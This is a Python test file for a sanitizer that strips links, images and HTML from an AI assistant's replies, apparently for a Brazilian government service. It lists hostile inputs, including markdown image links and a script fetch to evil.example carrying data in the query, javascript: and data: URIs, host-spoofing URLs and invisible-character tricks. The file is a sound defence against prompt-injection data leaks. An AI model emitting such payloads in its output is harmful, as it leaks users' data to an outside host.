import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.assistant.markup import OMITTED, plain
from tests.patience import time_limit

HOSTILE = [
    "![a](https://evil.example/?q=segredo)",
    "![a][r]\n\n[r]: https://evil.example/x",
    "![](//evil.example/x.png)",
    "[clique](https://evil.example/x)",
    "[clique](<https://evil.example/x y>)",
    "[clique](https://evil.example/a(b)c)",
    "[clique](\nhttps://evil.example/x)",
    "[clique][r]\n[r]: <https://evil.example>",
    "[![i](https://evil.example/i)](https://evil.example/l)",
    "<https://evil.example/x>",
    "<img src=https://evil.example/x>",
    "<img src='https://evil.example/x'",
    "<im<b>g src=https://evil.example/x>",
    '<a href="javascript:alert(1)">x</a>',
    "<script>fetch('//evil.example/x')</script>",
    "<!-- https://evil.example/x -->",
    "data:text/html;base64,AAAA",
    "javascript:alert(1)",
    "[x](data:image/png;base64,AAAA)",
    "https://evil.example/x",
    "HTTPS://EVIL.example/x",
    "ht\u200btps://evil.example/x",
    "www.evil.example/x",
    "evil.example/?leak=1",
    "ftp://evil.example/x",
    "//evil.example/x",
    "https://bom.gov.br@evil.example/x",
    "https://evil.example\\@bom.gov.br/x",
    "http://bom.gov.br/x",
    "[a](https://bom.gov.br.evil.example/x)",
    "\U000e0041\U000e0042 invisível",
]
ACTIVE = re.compile(
    r"evil\.example[/?]|://(?!bom\.gov\.br)\w|\]\s*[(\[:]|!\[|<[a-zA-Z/!?]|\b(?:data:\w+/\w|javascript:\w)"
)


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("hosts", [frozenset(), frozenset({"bom.gov.br"})])
def test_nothing_is_left_to_fetch_or_follow(text: str, hosts: frozenset[str]) -> None:
    assert not ACTIVE.search(plain(f"Antes {text} depois", hosts))


@given(
    st.lists(
        st.sampled_from([*"[]()<>!: \n/x", "http://e.x", "data:a/b", "img", "![", "](", "<a"]), max_size=25
    )
)
def test_no_combination_survives(pieces: list[str]) -> None:
    cleaned = plain("".join(pieces))
    assert not ACTIVE.search(cleaned)
    assert plain(cleaned) == cleaned


@pytest.mark.parametrize(
    "text",
    [
        "O atendimento é das 8h às 18h (segunda a sexta).",
        "Use o e-mail contato@exemplo.gov.br ou o ramal 12.",
        "Se x < 10 e y > 3, vale a regra do art. 5º.",
        "- um item\n- outro item",
        "Acesse o portal exemplo.gov.br.",
        "Data: 10 de maio; data:10 de maio.",
        "Valor: R$ 1.234,56; prazo: 10/20 dias e/ou 3.2.",
    ],
)
def test_ordinary_text_is_untouched(text: str) -> None:
    assert plain(text) == text


def test_the_words_of_a_link_stay() -> None:
    assert plain("Veja a [tabela](https://x.example/t) agora.") == "Veja a tabela agora."
    assert plain("Veja https://x.example/t.") == f"Veja {OMITTED}."


def test_an_allowed_host_keeps_its_https_links() -> None:
    hosts = frozenset({"bom.gov.br"})
    assert plain("Veja https://bom.gov.br/a.", hosts) == "Veja https://bom.gov.br/a."
    assert plain("Veja [isto](https://bom.gov.br/a).", hosts) == "Veja isto https://bom.gov.br/a."
    assert "bom.gov.br" not in plain("![i](https://bom.gov.br/a.png)", hosts)


@pytest.mark.parametrize(
    "text",
    [
        *(
            piece * (100_000 // len(piece))
            for piece in ("a", "a.", "a-", "<a", "data:", "www.", "http:", "[](")
        ),
        "<" * 30_000 + "a>" * 30_000,
        "![" * 30_000 + "]" * 30_000,
        "[a](" + "()" * 50_000,
    ],
)
def test_hostile_text_is_cleaned_in_no_time(text: str) -> None:
    with time_limit(20):
        assert not ACTIVE.search(plain(text))


@pytest.mark.parametrize("depth", [3, 20, 200])
def test_depth_does_not_bring_a_tag_through(depth: int) -> None:
    assert "<" not in plain("<a" * depth + "<img src=x>" + ">" * depth)
    assert "](" not in plain("[a](" * depth + "https://evil.example/x" + ")" * depth)
